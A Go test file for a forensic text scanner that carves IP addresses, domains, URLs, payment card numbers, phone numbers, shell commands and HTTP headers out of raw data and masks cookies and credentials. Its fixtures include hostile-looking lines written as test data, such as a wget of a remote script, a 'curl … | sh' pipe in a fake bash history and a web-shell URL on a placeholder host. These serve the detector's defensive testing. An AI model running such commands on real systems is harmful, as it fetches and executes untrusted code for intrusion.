package carve

import (
	"fmt"
	"strings"
	"testing"
)

type found struct {
	Kind  Kind
	Value string
	Start int
}

func scanAll(text string) []found {
	var s Scanner
	var out []found
	s.Scan([]byte(text), func(m *Match) {
		out = append(out, found{m.Kind, string(m.Value), m.Start})
	})
	return out
}

func values(text string, k Kind) []string {
	var out []string
	for _, f := range scanAll(text) {
		if f.Kind == k {
			out = append(out, f.Value)
		}
	}
	return out
}

func TestFeatures(t *testing.T) {
	// Card numbers are the brands' published test numbers (Stripe, Adyen and
	// PayPal test card lists); they pass Luhn and sit in the issuer ranges.
	tests := []struct {
		name string
		text string
		kind Kind
		want []string
	}{
		{"ipv4", "conn from 203.0.113.7:443 and 10.0.0.1.", KindIPv4, []string{"203.0.113.7", "10.0.0.1"}},
		{"ipv4 rejects", "v1.2.3.4.5 256.1.1.1 01.2.3.4 1.2.3 a1.2.3.4 1.2.3.4x", KindIPv4, nil},
		{"ipv6", "listen [2001:db8::1]:80 and fe80::1ff:fe23:4567:890a now ::1 ok", KindIPv6, []string{"2001:db8::1", "fe80::1ff:fe23:4567:890a", "::1"}},
		{"ipv6 rejects", "std::map 12:34:56 aa:bb:cc:dd:ee:ff Foo::Bar d:: D::f C::A", KindIPv6, nil},
		{"email", "mail john.doe+x@example.co.jp, <taro@mail.example.com>.", KindEmail, []string{"john.doe+x@example.co.jp", "taro@mail.example.com"}},
		{"email rejects", "a@b .x@example.com x.@example.com a..b@example.com foo@bar", KindEmail, nil},
		{"domain", "resolve evil-c2.example.com and www.example.jp. then", KindDomain, []string{"evil-c2.example.com", "www.example.jp"}},
		{"domain rejects", "index.php setup.py libc.so.6 java.net.URL a@example.com os.path", KindDomain, nil},
		{"url", `fetch "http://203.0.113.9/shell.php?cmd=id", https://example.com/a(b).`, KindURL, []string{"http://203.0.113.9/shell.php?cmd=id", "https://example.com/a(b"}},
		{"url rejects", "xhttp://a.com/ http:///x file://etc/passwd", KindURL, nil},
		{"visa", "card=4242424242424242&cvc=123", KindCard, []string{"4242424242424242"}},
		{"grouped", "4111 1111 1111 1111 / 5555-5555-5555-4444 / 3782 822463 10005", KindCard, []string{"4111 1111 1111 1111", "5555-5555-5555-4444", "3782 822463 10005"}},
		{"brands", "2223003122003222 3530111333300000 36227206271667 6011111111111117 6200000000000005", KindCard,
			[]string{"2223003122003222", "3530111333300000", "36227206271667", "6011111111111117", "6200000000000005"}},
		{"card rejects", "4242424242424241 1234567812345670 42424242424242424242 4111-1111 1111-1111 x4242424242424242", KindCard, nil},
		{"phone jp", "tel 090-1234-5678 / 03-1234-5678 / 0120-123-456 / 06-6123-4567 / 09012345678", KindPhone,
			[]string{"090-1234-5678", "03-1234-5678", "0120-123-456", "06-6123-4567", "09012345678"}},
		{"phone e164", "call +81-90-1234-5678 or +819012345678 or +1 415 555 0100", KindPhone, []string{"+81-90-1234-5678", "+819012345678", "+1 415 555 0100"}},
		{"phone rejects", "2024-01-15 0-1234-5678 090-1234-56789 +0123456789 +81-3", KindPhone, nil},
		{"prompt", "root@web01:/var/www# wget http://203.0.113.9/x.sh\n[alice@db01 ~]$ sudo -i\n$ ls -la\n# This is a comment\n# make certain it works.\n# id\n# /usr/sbin/sshd -D\n# /(^|x)/ {\n", KindCommand,
			[]string{"wget http://203.0.113.9/x.sh", "sudo -i", "ls -la", "id", "/usr/sbin/sshd -D"}},
		{"bash history", "#1700000000\ncurl -s http://x.example.com/a | sh\n#1700000060\nrm -f /tmp/a\n", KindCommand,
			[]string{"curl -s http://x.example.com/a | sh", "rm -f /tmp/a"}},
		{"request", "GET /admin/login.php?id=1 HTTP/1.1\r\nHost: shop.example.com\r\nCookie: PHPSESSID=abc123; x=taro@example.com\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\nbody", KindHTTPHeader,
			[]string{"Host: shop.example.com", "Cookie: [masked 36 bytes]", "Authorization: [masked 18 bytes]"}},
		{"response", "HTTP/1.1 302 Found\r\nSet-Cookie: s=1\r\nLocation: /x\r\n\r\n", KindHTTPHeader,
			[]string{"HTTP/1.1 302 Found", "Set-Cookie: [masked 3 bytes]", "Location: /x"}},
		{"request line", "POST /api/v1/pay HTTP/1.0\nHost: a\n\n", KindHTTPRequest, []string{"POST /api/v1/pay HTTP/1.0"}},
		{"log line", "junk\n192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] \"GET / HTTP/1.0\" 200 2326\nno clock here at all\n", KindLogLine,
			[]string{`192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] "GET / HTTP/1.0" 200 2326`}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			got := values(tc.text, tc.kind)
			if fmt.Sprint(got) != fmt.Sprint(tc.want) {
				t.Errorf("%s in %q:\n got %q\nwant %q", tc.kind, tc.text, got, tc.want)
			}
		})
	}
}

func TestMaskedValuesNotCarved(t *testing.T) {
	// The e-mail address inside the Cookie value must not surface as an
	// e-mail finding, and no context may show the cookie.
	text := "GET / HTTP/1.1\r\nCookie: user=taro@example.com; sid=4242424242424242\r\n\r\n"
	var s Scanner
	s.Scan([]byte(text), func(m *Match) {
		if m.Kind == KindEmail || m.Kind == KindCard {
			t.Errorf("found %s %q inside a masked header", m.Kind, m.Value)
		}
		ctx := string(s.Context(nil, m))
		if strings.Contains(ctx, "taro") || strings.Contains(ctx, "4242") {
			t.Errorf("context of %s shows the cookie: %q", m.Kind, ctx)
		}
	})
}

func TestOffsets(t *testing.T) {
	text := "xx 198.51.100.23 yy\nuser@example.com"
	for _, f := range scanAll(text) {
		if text[f.Start:f.Start+len(f.Value)] != f.Value {
			t.Errorf("%s %q: text at %d is %q", f.Kind, f.Value, f.Start, text[f.Start:f.Start+len(f.Value)])
		}
	}
}

func TestLuhnIssuer(t *testing.T) {
	tests := []struct {
		num    string
		luhn   bool
		issuer string
	}{
		{"4242424242424242", true, "visa"},
		{"4222222222222", true, "visa"},
		{"4242424242424241", false, "visa"},
		{"5105105105105100", true, "mastercard"},
		{"2221000000000009", true, "mastercard"},
		{"2720999999999996", true, "mastercard"},
		{"2721000000000004", true, ""},
		{"378282246310005", true, "amex"},
		{"371449635398431", true, "amex"},
		{"3530111333300000", true, "jcb"},
		{"3566002020360505", true, "jcb"},
		{"3590000000000000", true, ""},
		{"30569309025904", true, "diners"},
		{"38520000023237", true, "diners"},
		{"6011111111111117", true, "discover"},
		{"6445644564456445", true, "discover"},
		{"6221260000000000", true, "discover"},
		{"6200000000000005", true, "unionpay"},
		{"1234567812345670", true, ""},
		{"424242424242424", true, ""},
		{"4242424242424", false, "visa"},
	}
	for _, tc := range tests {
		if got := Luhn([]byte(tc.num)); got != tc.luhn {
			t.Errorf("Luhn(%s) = %v, want %v", tc.num, got, tc.luhn)
		}
		if got := Issuer([]byte(tc.num)); got != tc.issuer {
			t.Errorf("Issuer(%s) = %q, want %q", tc.num, got, tc.issuer)
		}
	}
}

func TestContextEscaped(t *testing.T) {
	text := "a\tb 203.0.113.5 \\ c"
	var s Scanner
	var ctx string
	s.Scan([]byte(text), func(m *Match) {
		if m.Kind == KindIPv4 {
			ctx = string(s.Context(nil, m))
		}
	})
	if want := `a\tb 203.0.113.5 \\ c`; ctx != want {
		t.Errorf("context %q, want %q", ctx, want)
	}
}

func FuzzScan(f *testing.F) {
	f.Add([]byte("GET /x HTTP/1.1\r\nHost: a.example.com\r\nCookie: a=b\r\n\r\n"))
	f.Add([]byte("root@h:~# ls\n#1700000000\nid\n4242424242424242 +81-90-1234-5678 a@b.example.com ::1 10.0.0.1 http://x.com/"))
	f.Fuzz(func(t *testing.T, b []byte) {
		var s Scanner
		s.Scan(b, func(m *Match) {
			if m.Start < 0 || m.End > len(b) || m.Start > m.End || m.Anchor > m.Start {
				t.Fatalf("bad match bounds %+v in %d bytes", m, len(b))
			}
			if len(m.Value) > MaxMatch {
				t.Fatalf("match longer than MaxMatch: %d", len(m.Value))
			}
			_ = s.Context(nil, m)
		})
	})
}

func FuzzLuhnIssuer(f *testing.F) {
	f.Add([]byte("4242424242424242"))
	f.Add([]byte("62212600000000009"))
	f.Fuzz(func(t *testing.T, d []byte) {
		ok := Luhn(d)
		iss := Issuer(d)
		for _, c := range d {
			if c < '0' || c > '9' {
				if ok {
					t.Fatalf("Luhn accepted non-digits %q", d)
				}
				return
			}
		}
		if iss != "" && (len(d) < 13 || len(d) > 19) {
			t.Fatalf("issuer %s for %d digits", iss, len(d))
		}
	})
}

func BenchmarkScanText(b *testing.B) {
	// go test ./parsers/memory/carve -bench ScanText -benchtime 2s
	var sb strings.Builder
	for sb.Len() < 1<<20 {
		sb.WriteString("192.0.2.1 - - [10/Oct/2000:13:55:36 -0700] \"GET /index.php?id=42 HTTP/1.1\" 200 2326 \"http://www.example.com/start.html\" \"Mozilla/5.0\"\n")
		sb.WriteString("The quick brown fox jumps over the lazy dog; contact support@example.com or +81-3-1234-5678.\n")
		sb.WriteString("version 1.2.3, build 20240115, checksum 0x1f2e3d4c, path /usr/lib/x86_64-linux-gnu/libc.so.6\n")
	}
	text := []byte(sb.String())
	var s Scanner
	n := 0
	emit := func(m *Match) { n++ }
	b.ReportAllocs()
	b.SetBytes(int64(len(text)))
	for b.Loop() {
		s.Scan(text, emit)
	}
}
